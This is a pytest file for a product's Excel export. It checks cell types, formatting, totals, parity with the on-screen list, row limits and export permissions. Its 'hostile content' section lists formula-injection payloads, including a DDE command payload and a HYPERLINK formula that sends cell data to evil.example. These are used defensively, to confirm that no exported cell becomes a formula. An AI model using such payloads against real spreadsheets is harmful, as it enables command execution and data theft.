"""Excel files: what leaves the product is what the list shows, typed, complete and harmless."""

import io
import re
import zipfile
from collections import defaultdict
from dataclasses import replace
from datetime import date, datetime, time, timedelta
from decimal import Decimal
from random import Random
from typing import Any

import openpyxl
import pandas as pd
import pytest
from openpyxl.utils import get_column_letter
from openpyxl.workbook import Workbook
from openpyxl.worksheet.worksheet import Worksheet
from sqlalchemy import Connection, String, insert, select, text

from synchist import accounts, export, problems, queries
from synchist.accounts import NotAllowed, NotSignedIn, Principal
from synchist.currencies import to_decimal
from synchist.db.engine import reading, writing
from synchist.db.tables import access_event, organization
from synchist.db.tables import connection as connection_table
from synchist.demo import make_demo
from synchist.entities import BILLS, ENTITIES, INVOICES, Column, Entity, Kind
from synchist.export import CUT, EXCEL_TEXT, TooManyRows, workbook
from synchist.filters import Filters, Window, readable, today
from synchist.roles import Role
from synchist.settings import settings
from synchist.statuses import SyncStatus
from tests.conftest import SQLITE, Database, owned, sign_in
from tests.world import STORIES, World, noon

PENDING, COMPLETE, FAILED = SyncStatus
ANYTHING = Filters(window=Window.ALL)
OPERATOR = Principal.command_line("operator")


def columns(entity: Entity, filters: Filters) -> list[Column]:
    """What the grid shows under that status."""
    return entity.shown(filters.status)


def opened(content: bytes) -> Workbook:
    """The file as another program reads it; formulas would come as formulas."""
    return openpyxl.load_workbook(io.BytesIO(content))


def sheet(principal: Principal, entity: Entity, filters: Filters) -> Worksheet:
    _name, content = workbook(principal, entity, filters)
    return opened(content)[entity.title]


def rows(entity: Entity, filters: Filters, of: Worksheet) -> list[dict[str, Any]]:
    """The data rows, by the keys of the columns."""
    keys = [column.key for column in columns(entity, filters)]
    found = of.iter_rows(min_row=2, values_only=True)
    return [dict(zip(keys, values, strict=True)) for values in found]


def about(content: bytes) -> dict[str, Any]:
    return facts(opened(content))


def facts(book: Workbook) -> dict[str, Any]:
    found = book["About"].iter_rows(min_row=2, values_only=True)
    return {str(what): value for what, value in found}


def unescaped(value: Any) -> Any:
    """A text as Excel reads it: `_x0001_` is how a file spells a control character."""
    if not isinstance(value, str):
        return value
    return re.sub(r"_x([0-9A-F]{4})_", lambda found: chr(int(found[1], 16)), value)


def accesses() -> list[tuple[str, str, str]]:
    of = access_event.c
    with reading() as connection:
        recorded = connection.execute(select(of.kind, of.actor, of.detail).order_by(of.id))
        return [(row.kind, row.actor, row.detail) for row in recorded]


# ---------------------------------------------------------------- the file


@pytest.mark.parametrize("status", SyncStatus, ids=lambda status: status.label)
def test_a_sheet_shows_the_columns_and_rows_of_the_grid(
    database: Database, world: World, analyst: Principal, status: SyncStatus
) -> None:
    """B11."""
    filters = Filters(status=status, window=Window.ALL)
    for entity in ENTITIES:
        _name, content = workbook(analyst, entity, filters)
        book = opened(content)
        assert book.sheetnames == [entity.title, "About"]
        shown = book[entity.title]
        headers = [cell.value for cell in shown[1]]
        assert headers == [column.label for column in columns(entity, filters)]
        assert ("Last error" in headers) == (status is not COMPLETE)
        with reading() as connection:
            frame = queries.load(connection, entity, filters)
        assert [row["number"] for row in rows(entity, filters, shown)] == list(frame["number"])


def test_cells_are_typed(database: Database, world: World, analyst: Principal) -> None:
    """One row, cell by cell: text, amounts, a moment in business time, days, blanks."""
    with database.tms() as tms:
        tms.execute(
            "UPDATE invoice SET due_date = '2026-12-31', connection_id = NULL"
            f" WHERE id = {world.invoice['partial']}"
        )
        tms.commit()
    filters = Filters(status=COMPLETE)
    shown = sheet(analyst, INVOICES, filters)
    number = next(cell.row for cell in shown["A"] if cell.value == "INV-2008")
    keys = [column.key for column in columns(INVOICES, filters)]
    cells = dict(zip(keys, shown[number], strict=True))
    seven_days_ago = today() - timedelta(days=7)
    typed = {key: (cell.value, cell.data_type, cell.number_format) for key, cell in cells.items()}
    assert typed == {
        "number": ("INV-2008", "s", "General"),
        "party": ("Bluebird Foods", "s", "General"),
        "amount": (1500, "n", "#,##0.00#"),
        "synced_amount": (1350, "n", "#,##0.00#"),
        "differs": ("≠", "s", "General"),
        "difference": (150, "n", "#,##0.00#"),
        "currency": ("USD", "s", "General"),
        "tms_status": ("Approved", "s", "General"),
        "sync_at": (datetime.combine(seven_days_ago, time(12)), "d", "yyyy-mm-dd hh:mm"),
        "owner": (None, "n", "General"),
        "note": (None, "n", "General"),
        "sync_reference": ("QB-5002", "s", "General"),
        "closed_reason": (None, "n", "General"),
        "sync_status": ("Complete", "s", "General"),
        "shipment_id": ("SHP-9008", "s", "General"),
        "pro_number": ("PRO77008", "s", "General"),
        "due_date": (datetime(2026, 12, 31), "d", "yyyy-mm-dd"),
        "accounting_date": (
            datetime.combine(today() - timedelta(days=90), time()),
            "d",
            "yyyy-mm-dd",
        ),
        "billing": ("Harbor Point Chicago", "s", "General"),
        "connection": (None, "n", "General"),
        "outcome_at": (datetime.combine(seven_days_ago, time(12)), "d", "yyyy-mm-dd hh:mm"),
    }


def test_a_sheet_is_ready_to_work_with(
    database: Database, world: World, analyst: Principal
) -> None:
    """Bold headers that stay in sight, filters on every column, widths as on the screen."""
    for entity in ENTITIES:
        _name, content = workbook(analyst, entity, Filters())
        book = opened(content)
        shown, of = book[entity.title], columns(entity, Filters())
        assert shown.freeze_panes == "B2"
        assert shown.auto_filter.ref == f"A1:{get_column_letter(len(of))}5"
        assert all(cell.font.bold for cell in shown[1])
        assert not any(cell.font.bold for cell in shown[2])
        widths = {  # neighbours of the same width share an entry
            position: entry.width
            for entry in shown.column_dimensions.values()
            for position in range(entry.min, entry.max + 1)
        }
        for position, column in enumerate(of, start=1):
            assert widths[position] == pytest.approx(column.width / 7, abs=1), column.key
        assert book["About"].freeze_panes == "A2"
        assert book.active is shown


def test_the_about_sheet_says_what_who_and_when(
    database: Database, world: World, analyst: Principal
) -> None:
    filters = Filters(status=COMPLETE, window=Window.PAST_MONTH)
    _name, content = workbook(analyst, BILLS, filters)
    start, end = filters.days()
    assert start is not None
    assert end is not None
    said = about(content)
    at = said.pop("Exported at")
    assert re.fullmatch(rf"{today()} \d\d:\d\d \(America/Chicago\)", at)
    assert said == {
        "What": f"Complete bills · {readable(start)} to {readable(end)} (America/Chicago)",
        "Exported by": "Ada",
        "Dates and times in": "America/Chicago",
        "Rows": 5,
        "Sum of amounts, CAD": 999.99,
        "Sum of synced amounts, CAD": 999.99,
        "Synced amounts known, CAD": "1 of 1",
        "Sum of amounts, USD": 4410,
        "Sum of synced amounts, USD": 3950,
        "Synced amounts known, USD": "3 of 4",
    }


def test_the_file_is_named_after_what_it_holds(
    database: Database, world: World, analyst: Principal
) -> None:
    day = date(2026, 10, 3)
    for filters, days in (
        (Filters(window=Window.CUSTOM, start=day, end=day), "Failed 2026-10-03 to 2026-10-03"),
        (Filters(status=PENDING, window=Window.CUSTOM, start=day, end=day), "Pending all dates"),
        (Filters(status=COMPLETE, window=Window.ALL), "Complete all dates"),
    ):
        for entity in ENTITIES:
            name, _content = workbook(analyst, entity, filters)
            assert re.fullmatch(rf"{entity.title} {days} {today()} \d{{4}}\.xlsx", name)


def test_a_list_without_rows_is_a_file_with_headers(
    database: Database, world: World, analyst: Principal
) -> None:
    filters = Filters(search="no such thing")
    for entity in ENTITIES:
        _name, content = workbook(analyst, entity, filters)
        shown = opened(content)[entity.title]
        assert [cell.value for cell in shown[1]] == [
            column.label for column in columns(entity, filters)
        ]
        assert shown.max_row == 1
        assert about(content)["Rows"] == 0


def test_currencies_keep_all_their_decimals(
    database: Database, world: World, analyst: Principal
) -> None:
    """Yen have none, dinars three; the format shows the third where it is not 0."""
    with database.tms() as tms:
        for story, currency in (("failed", "KWD"), ("failed_twice", "JPY")):
            tms.execute(
                f"UPDATE bill SET currency = '{currency}', amount = 1234567"
                f" WHERE id = {world.bill[story]}"
            )
        tms.commit()
    _name, content = workbook(analyst, BILLS, Filters())
    found = rows(BILLS, Filters(), opened(content)[BILLS.title])
    amounts = {row["currency"]: row["amount"] for row in found}
    assert (amounts["KWD"], amounts["JPY"]) == (1234.567, 1234567)
    assert about(content)["Sum of amounts, KWD"] == 1234.567
    assert about(content)["Sum of amounts, JPY"] == 1234567
    # What the books hold of failed bills is not known, and no zero.
    assert about(content)["Sum of synced amounts, JPY"] is None


def test_a_date_before_excels_calendar_is_text_and_not_blank(
    database: Database, world: World, analyst: Principal
) -> None:
    """A slip like 0202-11-03 shows on the screen, so it stands in the file."""
    with database.owner() as tms:
        tms.execute(
            "UPDATE bill SET accounting_date = '0202-11-03',"
            f" sync_at = '0001-01-02 18:00:00.000000+00' WHERE id = {world.bill['failed']}"
            if database.dialect != SQLITE
            else "UPDATE bill SET accounting_date = '0202-11-03',"
            f" sync_at = '0001-01-02 18:00:00.000000' WHERE id = {world.bill['failed']}"
        )
        tms.commit()
    shown = rows(BILLS, ANYTHING, sheet(analyst, BILLS, ANYTHING))
    old = next(row for row in shown if row["number"] == "BIL-2001")
    assert old["accounting_date"] == "0202-11-03"
    assert old["sync_at"].startswith("0001-01-02 12:")
    assert {type(row["sync_at"]) for row in shown if row is not old} == {datetime}


# ---------------------------------------------------------------- hostile content

HOSTILE = [
    "=cmd|' /C calc'!A0",
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1",
    "-1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "{=1+1}",
    "1234",
    "1e5",
    "2026-11-22",
    "TRUE",
    "#REF!",
    "http://evil.example/",
    "_x0041_",
    "<f>1+1</f>&amp;]]>",
    "line\r\nbreak\x0bsep\u2028end",
    "×" + "".join(map(chr, range(32))) + "\x7f\x85\ufffe\uffff",
    "😀 שלום \u202eabc\u202c e\u0301",
    "  blanks  ",
    "x" * 40_000,
    "=" + "y" * EXCEL_TEXT,
    "z" * EXCEL_TEXT,
]


def own_texts(entity: Entity) -> list[str]:
    """The entity's own columns of text, as declared, so that a new one is tried too. A currency
    has three letters and a reason for closing is one of ours."""
    return [
        column.key
        for column in entity.columns
        if column.kind in (Kind.TEXT, Kind.LONG_TEXT)
        and column.source is entity.table.c.get(column.key)
        and column.key not in ("currency", "closed_reason")
    ]


def _fitting(value: str, column: Any, dialect: str) -> str:
    """A hostile text as this database's column takes it; SQLite takes anything."""
    if dialect == SQLITE:
        return value
    length = column.type.length if isinstance(column.type, String) else None
    return value.replace("\x00", "")[:length]


def _write_hostile(connection: Connection, dialect: str) -> dict[Entity, list[dict[str, str]]]:
    """A failed record for each hostile text, which stands in every column of text that there is.

    Returns what was written by entity; the number of a text is its record's amount.
    """
    written: dict[Entity, list[dict[str, str]]] = {entity: [] for entity in ENTITIES}
    for number, value in enumerate(HOSTILE):
        name = _fitting(value, organization.c.name, dialect)
        party = connection.execute(
            insert(organization).values(tms_id=f"H-{number}", name=name)
        ).inserted_primary_key[0]
        link = connection.execute(
            insert(connection_table).values(
                name=name, system="QuickBooks Online", company=name, state="authorized"
            )
        ).inserted_primary_key[0]
        for entity, texts in written.items():
            own = {key: _fitting(value, entity.table.c[key], dialect) for key in own_texts(entity)}
            connection.execute(
                insert(entity.table).values(
                    tms_id=f"H-{number}",
                    party_id=party,
                    billing_organization_id=party,
                    connection_id=link,
                    currency="=1+",
                    amount=number,
                    synced_amount=-number,
                    created_at=noon(2),
                    sync_at=noon(1),
                    sync_status=2,
                    **own,
                )
            )
            texts.append(own | {"party": name, "billing": name, "connection": name})
    return written


def test_no_cell_is_ever_a_formula(
    database: Database, analyst: Principal, capfd: pytest.CaptureFixture[str]
) -> None:
    """T7. Every hostile text in every column of text comes back as the same text."""
    filters = Filters(sort="Amount, lowest first")
    with owned(), writing() as connection:
        written = _write_hostile(connection, database.dialect)
    for entity, texts in written.items():
        _name, content = workbook(analyst, entity, filters)
        with zipfile.ZipFile(io.BytesIO(content)) as parts:
            sheets = [parts.read(name) for name in parts.namelist() if "/sheet" in name]
            assert len(sheets) == 2
            assert not any(re.search(rb"<f[ >/]", part) for part in sheets)
            assert not any("externalLink" in name for name in parts.namelist())
        book = opened(content)
        for part in book:
            assert {cell.data_type for row in part for cell in row} <= {"s", "n", "d"}
            assert not any(cell.hyperlink for row in part for cell in row)

        found = rows(entity, filters, book[entity.title])
        for row, expected in zip(found, texts, strict=True):
            for key, value in expected.items():
                cut = len(value) > EXCEL_TEXT
                kept = value[: EXCEL_TEXT - len(CUT)] + CUT if cut else value
                assert unescaped(row[key]) == kept, (key, value[:40])
        for column, cells in zip(
            columns(entity, filters), book[entity.title].iter_cols(min_row=2), strict=True
        ):
            if column.kind is Kind.MONEY:
                assert {cell.data_type for cell in cells} == {"n"}
    assert capfd.readouterr() == ("", "")


def test_what_a_file_says_of_itself_is_no_formula_either(database: Database, world: World) -> None:
    """Names and searches stand on the About sheet."""
    hostile = "=1+1"
    accounts.add_account(OPERATOR, "eve", hostile, "a long enough password")
    accounts.grant(OPERATOR, "eve", Role.ACCOUNTING_SYNC)
    session = accounts.session_of(accounts.sign_in("eve", "a long enough password", "192.0.2.1"))
    assert session is not None
    _name, content = workbook(session.principal, BILLS, Filters(search=hostile, party=hostile))
    cells = {cell.value: cell.data_type for row in opened(content)["About"] for cell in row}
    assert cells[hostile] == "s"
    assert set(cells.values()) <= {"s", "n"}


# ---------------------------------------------------------------- equals the screen


def _random(entity: Entity, known: dict[str, list[str]], chance: Random) -> Filters:
    """Any combination of filters; most find something."""
    window = chance.choice([*Window, Window.ALL])
    ago = sorted(chance.sample(range(400), 2))
    start, end = (today() - timedelta(days=days) for days in reversed(ago))
    more: dict[str, Any] = {}
    for name, values in known.items():
        if chance.random() < 0.08:
            more[name] = chance.choice(values)
    if chance.random() < 0.25:
        name = chance.choice(known["party"] + known["billing"])
        more["search"] = chance.choice([name[:3], name[2:6].upper(), name, f"{name};1"])
    return Filters(
        status=chance.choice([*SyncStatus]),
        window=window,
        start=start if window is Window.CUSTOM else None,
        end=end if window is Window.CUSTOM else None,
        sort=chance.choice(entity.sorts).label,
        differs=chance.random() < 0.1,
        **more,
    )


def _same(shown: pd.DataFrame, found: list[dict[str, Any]], of: list[Column]) -> None:
    """Each cell against what the grid shows."""
    assert len(found) == len(shown)
    for column in of:
        values = [None if pd.isna(value) or value == "" else value for value in shown[column.key]]
        cells = [row[column.key] for row in found]
        if column.kind is Kind.MOMENT:
            for cell, value in zip(cells, values, strict=True):
                assert (cell is None) == (value is None)
                # The writer keeps whole seconds; both show minutes.
                assert cell is None or timedelta() <= value - cell < timedelta(seconds=1)
        elif column.kind is Kind.DAY:
            assert [cell and cell.date() for cell in cells] == values
        else:
            assert [unescaped(cell) for cell in cells] == values, column.key


def test_a_file_holds_what_the_list_shows(database: Database) -> None:
    """T6. 500 random filters, half of them on each database: the same rows in the same order, sums
    to the cent."""
    with owned():
        make_demo(300, seed=6)
    while problems.catch_up():
        pass
    analyst = sign_in("ada", Role.ACCOUNTING_SYNC)
    with reading() as connection:
        known = {entity: queries.choices(connection, entity) for entity in ENTITIES}
    chance = Random(database.dialect)
    filled = 0
    for number in range(250):
        entity = ENTITIES[number % 4]
        filters = _random(entity, known[entity], chance)
        with reading() as connection:
            frame = queries.load(connection, entity, filters)
            total = queries.total(connection, entity, filters)
        filled += not frame.empty
        _name, content = workbook(analyst, entity, filters)
        of = columns(entity, filters)
        book = opened(content)
        found = rows(entity, filters, book[entity.title])
        _same(queries.readable(frame, of), found, of)

        sums: defaultdict[str, Decimal] = defaultdict(Decimal)
        for row in found:
            sums[row["currency"]] += Decimal(repr(row["amount"]))
        exact = {
            currency: to_decimal(minor, currency) for currency, minor in total.by_currency.items()
        }
        assert sums == exact
        said = facts(book)
        assert float(said["Rows"]) == total.count
        for currency, amount in exact.items():
            assert Decimal(repr(said[f"Sum of amounts, {currency}"])) == amount
    assert filled > 75


# ---------------------------------------------------------------- limits and rights


def test_more_rows_than_excel_holds_are_refused_and_not_cut_off(
    database: Database, world: World, analyst: Principal, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "EXCEL_ROWS", 5)
    assert sheet(analyst, BILLS, Filters()).max_row == 5
    monkeypatch.setattr(export, "EXCEL_ROWS", 4)
    with pytest.raises(TooManyRows) as refused:
        workbook(analyst, BILLS, Filters())
    assert str(refused.value) == (
        "Excel holds at most 3 rows and 4 match. Narrow the filters, for example to one year,"
        " and export again."
    )
    assert [kind for kind, *_ in accesses()] == ["export"]


def test_an_export_is_recorded(database: Database, world: World, analyst: Principal) -> None:
    filters = replace(ANYTHING, status=PENDING, search="BIL")
    workbook(analyst, BILLS, filters)
    workbook(OPERATOR, BILLS, ANYTHING)
    assert accesses() == [
        ("export", "Ada", "3 rows: Pending bills · all dates · search “BIL”"),
        ("export", "cli:operator", "5 rows: Failed bills · all dates"),
    ]


@pytest.mark.parametrize("who", ["viewer", "visitor", "nobody"])
def test_who_may_not_export_gets_no_file_and_is_recorded(
    database: Database, world: World, who: str, request: pytest.FixtureRequest
) -> None:
    """B11, T9."""
    nobody = Principal(None, "nobody")
    principal = nobody if who == "nobody" else request.getfixturevalue(who)
    with pytest.raises((NotAllowed, NotSignedIn)) as refused:
        workbook(principal, INVOICES, Filters())
    assert (
        str(refused.value)
        == {
            "viewer": "Your account may not export. Ask an administrator if you need it.",
            "visitor": (
                "Your account lacks the role Accounting Sync. Ask an administrator for it."
            ),
            "nobody": "Your session has ended. Sign in again.",
        }[who]
    )
    name = {"viewer": "Victor", "visitor": "Vera", "nobody": "nobody"}[who]
    assert accesses() == [("denied", name, "export invoices")]


def test_a_role_taken_or_given_counts_at_the_next_export(
    database: Database, world: World, analyst: Principal
) -> None:
    assert sheet(analyst, BILLS, Filters()).max_row == 5
    accounts.grant(OPERATOR, "ada", Role.HIDE_EXPORT)
    with pytest.raises(NotAllowed, match="may not export"):
        workbook(analyst, BILLS, Filters())
    accounts.revoke(OPERATOR, "ada", Role.HIDE_EXPORT)
    assert sheet(analyst, BILLS, Filters()).max_row == 5
    accounts.revoke(OPERATOR, "ada", Role.ACCOUNTING_SYNC)
    with pytest.raises(NotAllowed, match="lacks the role Accounting Sync"):
        workbook(analyst, BILLS, Filters())


def test_the_writer_says_nothing_on_the_terminal(
    database: Database, world: World, capfd: pytest.CaptureFixture[str]
) -> None:
    """It tells of rows that it writes a second time, which it does after it refused a value."""
    with writing() as connection:
        connection.execute(
            text("UPDATE bill SET sync_error = :error WHERE id = :id"),
            {"error": "x" * 40_000, "id": world.bill["failed_old"]},
        )
    for entity in ENTITIES:
        for status in SyncStatus:
            workbook(OPERATOR, entity, Filters(status=status, window=Window.ALL))
    assert capfd.readouterr() == ("", "")


def test_times_are_those_of_the_business(
    database: Database, world: World, analyst: Principal, monkeypatch: pytest.MonkeyPatch
) -> None:
    failed = noon(3)
    monkeypatch.setenv("SYNCHIST_TIME_ZONE", "Asia/Kolkata")
    settings.cache_clear()
    _name, content = workbook(analyst, BILLS, ANYTHING)
    found = rows(BILLS, ANYTHING, opened(content)[BILLS.title])
    shown = next(row for row in found if row["number"] == "BIL-2001")["sync_at"]
    assert shown == failed.astimezone(settings().zone).replace(tzinfo=None)
    assert about(content)["Dates and times in"] == "Asia/Kolkata"
    assert len(found) == 5 < len(STORIES)
